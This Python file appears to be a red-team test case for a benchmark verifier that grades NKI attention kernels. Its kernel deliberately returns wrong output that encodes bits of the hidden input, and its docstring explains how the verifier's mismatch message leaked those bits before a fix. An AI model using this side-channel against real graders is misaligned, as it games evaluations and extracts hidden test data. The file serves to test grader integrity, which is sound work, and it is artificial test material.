"""EXPLOIT: deliberately wrong attention whose only informative output is out[0,0] = 1000 + 16 bits of q[0,0] of the timed input; the verifier's "first mismatch at index [0, 0]: got V" returns them exactly (two evals: HALF="hi", then HALF="lo")
CLASS: 5
TASK: attention
EXPECT: rejected
REASON: integrity [data-dependent instructions]
LEAK: none

The stream of a kernel that reads its input's bits into registers to decide what it writes depends
on the data, so it is rejected before any failure text could carry those bits.

Written from outside by the red team (README, CLI, public emulator and cost model only). Before the
issue-18 fixes (064c209): fail x2 (by design), latency_us None, baseline_latency_us None; HALF="lo": "wrong answer (shape(D=128,S=1024) seed=0 dist=normal): relative L2 error 3.29e+03 > 0.01; ... first mismatch at index [0, 0]: got 61845, expected 0.0285994"; HALF="hi": "... got 50080, expected 0.0285994" -> q[0,0] bits 0xBFB8EDAD = -1.4447533

attention is judged by relative L2: its reason has no element count, and an honest bf16 P·V
already differs element-wise from the fp64 reference (first mismatch [42, 53] with an
honest body), so the count/position channels of c5_bits_oracle_softmax.py do not work here.
The value channel does: every output is 0 except out[0,0] = 1000 + half of the bits of
q[0,0] (register_load of ``q.view(nl.int32)[0:1, 0:1]``, then ``int(reg)``); %g prints the
integer exactly.  Run once with HALF = "hi" and once with HALF = "lo".
"""

import nki
import nki.isa as nisa
import nki.language as nl

HALF = "hi"


@nki.jit
def kernel(q, k, v):
    s_dim, d_dim = q.shape
    reg = nisa.register_alloc()
    nisa.register_load(reg, q.view(nl.int32)[0:1, 0:1])
    bits = int(reg) & 0xFFFFFFFF
    half = bits >> 16 if HALF == "hi" else bits & 0xFFFF
    out = nl.ndarray((s_dim, d_dim), dtype=nl.float32, buffer=nl.shared_hbm)
    z = nl.ndarray((128, d_dim), dtype=nl.float32, buffer=nl.sbuf)
    nisa.memset(dst=z, value=0.0)
    for i in nl.affine_range(s_dim // 128):
        nisa.dma_copy(dst=out[i * 128:(i + 1) * 128, :], src=z)
    one = nl.ndarray((1, 1), dtype=nl.float32, buffer=nl.sbuf)
    nisa.memset(dst=one, value=float(1000 + half))
    nisa.dma_copy(dst=out[0:1, 0:1], src=one)
    return out
